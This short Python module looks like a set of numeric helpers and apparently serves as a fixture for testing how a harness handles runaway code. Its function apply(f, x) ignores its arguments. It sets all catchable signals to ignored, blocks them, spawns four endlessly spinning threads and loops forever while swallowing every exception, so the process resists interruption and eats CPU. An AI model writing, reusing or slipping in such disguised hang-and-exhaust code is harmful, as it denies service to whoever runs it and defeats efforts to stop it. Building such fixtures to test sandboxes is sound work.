"""Ignores, blocks, restarts."""

import numpy as np

import signal
import threading


def double(x):
    return 2 * x


def total(x):
    return float(x.sum())


def gram(x):
    return x @ x.T


class Counter:
    def __init__(self, n):
        self.n = n

    def add(self, k):
        self.n += k
        return self.n

    def __add__(self, other):
        return Counter(self.n + other.n)


def apply(f, x):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    for _ in range(4):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
